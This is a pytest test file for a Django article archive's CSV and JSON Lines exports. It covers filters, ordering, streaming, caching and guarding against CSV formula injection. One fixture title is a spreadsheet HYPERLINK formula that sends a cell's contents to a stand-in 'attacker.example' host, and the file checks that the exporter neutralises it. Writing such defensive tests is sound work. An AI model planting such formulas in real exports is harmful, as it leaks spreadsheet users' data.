"""Exports of the article list: the articles the list shows for its filters, every one, as CSV or JSON Lines."""

import csv
import datetime
import io
import json

import lxml.html
import pytest
from django.core.management import call_command
from django.db import connection
from django.test import RequestFactory
from django.test.utils import CaptureQueriesContext
from django.urls import resolve

from archive import exports
from archive.index import store
from archive.models import Article, ArticleTopic, Mention, Person, Topic
from tests.importing import import_path
from tests.locations import PAGES

BASE = "http://testserver"
LEAD = "/articles/2016/04/22/lukashenko-aspires-to-be-in-the-russo-american-conflicts-epicenter/"
RELATED = "/articles/2017/09/25/belarusian-authorities-resumed-arrests-of-opposition/"
DATELESS = "/articles/2020/05/12/opposition-leaders-the-vilnius-talks/"
RELATED_SUMMARY = (
    "Following crackdown and arrests of participants in the spring protests, the authorities resumed arrests as "
    "punishment for participating in street protests in addition to fines, which for some time were the only "
    "punishment for political activity. On September 22nd, 2017, the riot police detained the Belarusian National "
    "Congress leader Nikolai Statkevich, the opposition politician was placed in detention centre on Akrestin "
    "street. On the same day, after serving seven days of arrest, another BNC leader, Vladimir Neklyaev, was "
    "released. He was sentenced for organising a street protest on September 8th against the West-2017 exercises. "
    "Other participants in the protest have been fined too. The authorities are likely to continue to use fines "
    "and arrests against political activists to punish for their protest activity."
)


def add_articles(count):
    """Articles a day apart from 1 January 2010, enough to fill several pages of the list."""
    articles = []
    for number in range(count):
        article = Article(
            title=f"Weekly review {number}",
            slug=f"weekly-review-{number}",
            published_date=datetime.date(2010, 1, 1) + datetime.timedelta(days=number),
            body=f"Review number {number}.",
        )
        article.render()
        articles.append(article)
    Article.objects.bulk_create(articles)


def download(client, path):
    response = client.get(path)
    assert response.status_code == 200
    assert response.streaming
    return b"".join(response.streaming_content).decode()


def csv_rows(client, query=""):
    return list(csv.DictReader(io.StringIO(download(client, f"/articles/export.csv{query}"), newline="")))


def listed(client, query=""):
    """The permanent URLs the list page shows: the first link of each result."""
    response = client.get(f"/articles/{query}")
    assert response.status_code == 200
    doc = lxml.html.fromstring(response.content)
    return [result.xpath(".//a/@href")[0] for result in doc.xpath("//main//article")]


def test_a_person_and_date_filter_exports_exactly_the_rows_the_list_shows(client, research_archive):
    """Statkevich is in the 2017 and the 2020 articles; the dates keep 2017 only."""
    query = "?person=nikolai-statkevich&date_after=2017-01-01&date_before=2019-12-31"

    rows = csv_rows(client, query)

    assert listed(client, query) == [RELATED]
    assert rows == [
        {
            "url": BASE + RELATED,
            "published": "2017-09-25T11:14:00+03:00",
            "title": "Belarusian authorities resumed arrests of opposition",
            "language": "en",
            "persons": "Nikolai Statkevich",
            "topics": "Protests",
            "summary": RELATED_SUMMARY,
        }
    ]


def test_the_csv_follows_the_lists_order_and_names_persons_but_not_rejected_ones(client, research_archive):
    rows = csv_rows(client, "?sort=oldest")

    assert [(row["url"], row["published"], row["persons"]) for row in rows] == [
        (BASE + LEAD, "2016-04-22T18:26:00+03:00", "Alexander Lukashenko; Vladimir Putin"),
        (BASE + RELATED, "2017-09-25T11:14:00+03:00", "Nikolai Statkevich"),
        (BASE + DATELESS, "2020-05-12", "Nikolai Statkevich; Alexander Lukashenko"),
    ]
    assert [row["url"] for row in csv_rows(client)] == [BASE + DATELESS, BASE + RELATED, BASE + LEAD]


def test_the_csv_keeps_the_authors_characters_as_they_are(client, research_archive):
    text = download(client, "/articles/export.csv?date_after=2020-01-01")

    assert text.splitlines()[1] == (
        f'{BASE}{DATELESS},2020-05-12,"Opposition <leaders> & the ""Vilnius"" talks",en,'
        "Nikolai Statkevich; Alexander Lukashenko,,"
        "Opposition leaders met in Vilnius to discuss a common platform & a single candidate."
    )


def test_json_lines_are_the_export_articles_lines_of_the_listed_articles(client, research_archive):
    exported = io.StringIO()
    call_command("export_articles", stdout=exported)
    by_url = {line.split('"url": "')[1].split('"')[0]: line for line in exported.getvalue().splitlines()}

    lines = download(client, "/articles/export.jsonl?person=alexander-lukashenko").splitlines()

    assert lines == [by_url[DATELESS], by_url[LEAD]]


def test_exports_hold_every_article_of_the_list_not_one_page(client, research_archive):
    add_articles(120)

    first_page = listed(client, "?sort=oldest")
    rows = csv_rows(client, "?sort=oldest")
    lines = download(client, "/articles/export.jsonl?sort=oldest").splitlines()

    assert len(first_page) < 123
    assert len(rows) == len(lines) == 123
    assert [row["url"] for row in rows[: len(first_page)]] == [BASE + url for url in first_page]


def test_the_number_of_queries_of_a_streamed_export_does_not_grow_with_the_number_of_articles(client, research_archive):
    def queries_for_export():
        # The index takes in the new articles first: that is the index's work, done once, not the export's.
        store.catch_up()
        with CaptureQueriesContext(connection) as queries:
            download(client, "/articles/export.csv?date_after=2000-01-01")
        return len(queries)

    few = queries_for_export()
    add_articles(120)

    assert queries_for_export() == few


def test_a_malformed_filter_is_left_out_as_the_list_leaves_it_out(client, research_archive):
    query = "?date_after=2017-13-45&person=alexander-lukashenko"

    assert [row["url"] for row in csv_rows(client, query)] == [BASE + url for url in listed(client, query)]
    assert listed(client, query) == [DATELESS, LEAD]


def test_an_unknown_person_exports_only_the_header(client, research_archive):
    assert download(client, "/articles/export.csv?person=nobody") == (
        "url,published,title,language,persons,topics,summary\r\n"
    )


@pytest.mark.parametrize(
    ("path", "content_type", "filename"),
    [
        ("/articles/export.csv", "text/csv; charset=utf-8", "articles.csv"),
        ("/articles/export.jsonl", "application/jsonl; charset=utf-8", "articles.jsonl"),
    ],
)
def test_exports_are_streamed_named_files(client, research_archive, path, content_type, filename):
    response = client.get(path)

    assert response.streaming
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'


@pytest.mark.parametrize("path", ["/articles/export.csv", "/articles/export.jsonl"])
def test_exports_are_read_only(client, research_archive, path):
    assert client.post(path).status_code == 405


def test_the_list_page_links_both_exports_with_its_filters(client, research_archive):
    response = client.get("/articles/?person=nikolai-statkevich&date_after=2017-01-01")
    doc = lxml.html.fromstring(response.content)

    hrefs = doc.xpath('//a[contains(@href, "/articles/export.")]/@href')
    assert sorted(hrefs) == [
        "/articles/export.csv?person=nikolai-statkevich&date_after=2017-01-01",
        "/articles/export.jsonl?person=nikolai-statkevich&date_after=2017-01-01",
    ]


FORMULA_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Read more")'


@pytest.fixture
def formulas(make_article):
    """An article whose title, person, topic and summary a spreadsheet would run as formulas."""
    article = make_article(FORMULA_TITLE, "2021-03-01", body="-2+3 degrees in Minsk at noon.")
    Mention.objects.create(article=article, person=Person.objects.create(slug="at-sign", name="@SUM(1+1)"))
    ArticleTopic.objects.create(article=article, topic=Topic.objects.create(slug="plus", name="+1 topic"))
    return article


def test_csv_cells_a_spreadsheet_would_run_as_formulas_begin_with_a_quote(client, formulas):
    rows = csv_rows(client)

    assert rows == [
        {
            "url": BASE + formulas.get_absolute_url(),
            "published": "2021-03-01",
            "title": "'" + FORMULA_TITLE,
            "language": "en",
            "persons": "'@SUM(1+1)",
            "topics": "'+1 topic",
            "summary": "'-2+3 degrees in Minsk at noon.",
        }
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_character_that_starts_a_formula_is_guarded_and_others_are_not(start):
    assert exports.inert(f"{start}1+1") == f"'{start}1+1"
    assert exports.inert(f"1+1{start}") == f"1+1{start}"


def test_json_lines_keep_what_the_csv_guards_exactly_as_written(client, formulas):
    (line,) = download(client, "/articles/export.jsonl").splitlines()
    record = json.loads(line)

    assert (record["title"], record["persons"][0]["name"], record["topics"][0]["name"]) == (
        FORMULA_TITLE,
        "@SUM(1+1)",
        "+1 topic",
    )
    assert record["body"] == "-2+3 degrees in Minsk at noon."


def export_files(read_index):
    return sorted(path.name for path in read_index.parent.joinpath("index-exports").iterdir() if path.suffix != ".lock")


def whole(client, path, **headers):
    response = client.get(path, **headers)
    assert response.status_code == 200
    return response, b"".join(response.streaming_content).decode()


def test_the_whole_archive_is_exported_once_a_generation_then_served_from_its_file(
    client, research_archive, read_index
):
    generation = store.generation()
    _, built = whole(client, "/articles/export.jsonl")

    with CaptureQueriesContext(connection) as queries:
        second, served = whole(client, "/articles/export.jsonl")

    assert [json.loads(line)["url"] for line in built.splitlines()] == [DATELESS, RELATED, LEAD]
    assert served == built
    # The archive's generation, read by the page and by the export: no article is read again.
    assert len(queries) == 2
    assert (second["Content-Type"], second["Content-Length"]) == (
        "application/jsonl; charset=utf-8",
        str(len(built.encode())),
    )
    assert second["Content-Disposition"] == 'attachment; filename="articles.jsonl"'
    assert [name.split("-")[0] for name in export_files(read_index)] == [str(generation)]


def test_each_order_format_and_host_of_the_whole_archive_has_its_file(client, research_archive, read_index):
    """The CSV writes absolute addresses, so the host it was asked at is part of what it holds."""
    _, newest = whole(client, "/articles/export.csv")
    _, oldest = whole(client, "/articles/export.csv?sort=oldest")
    _, other_host = whole(client, "/articles/export.csv", HTTP_HOST="localhost")
    whole(client, "/articles/export.jsonl")

    assert newest.splitlines()[1].startswith(f"{BASE}{DATELESS},")
    assert oldest.splitlines()[1].startswith(f"{BASE}{LEAD},")
    assert other_host.splitlines()[1].startswith(f"http://localhost{DATELESS},")
    assert sorted(name.rsplit(".", 1)[1] for name in export_files(read_index)) == ["csv", "csv", "csv", "jsonl"]


def test_a_committed_change_exports_the_whole_archive_anew_and_removes_the_former_file(
    client, research_archive, read_index, django_capture_on_commit_callbacks
):
    whole(client, "/articles/export.jsonl")
    with django_capture_on_commit_callbacks(execute=True):
        import_path(PAGES / "russian_dateline.txt")

    _, after = whole(client, "/articles/export.jsonl")

    assert "Белорусские власти возобновили аресты оппозиции" in after
    assert [name.split("-")[0] for name in export_files(read_index)] == [str(store.generation())]


def head(path):
    """A HEAD request through the public view, as a server reads it: its whole body, whatever that costs."""
    request = RequestFactory().head(path)
    response = resolve(request.path).func(request)
    with CaptureQueriesContext(connection) as queries:
        body = b"".join(response.streaming_content)
    return response, body, len(queries)


@pytest.mark.parametrize("path", ["/articles/export.jsonl", "/articles/export.csv?person=nikolai-statkevich"])
def test_head_builds_no_export(research_archive, read_index, path):
    response, body, queries = head(path)

    assert (response.status_code, body, queries) == (200, b"", 0)
    assert response["Content-Disposition"].startswith("attachment; ")
    assert not read_index.parent.joinpath("index-exports").exists()


def test_head_of_a_whole_archive_export_already_built_says_its_length(client, research_archive, read_index):
    _, built = whole(client, "/articles/export.jsonl")

    response, body, _ = head("/articles/export.jsonl")

    assert (body, response["Content-Length"]) == (b"", str(len(built.encode())))
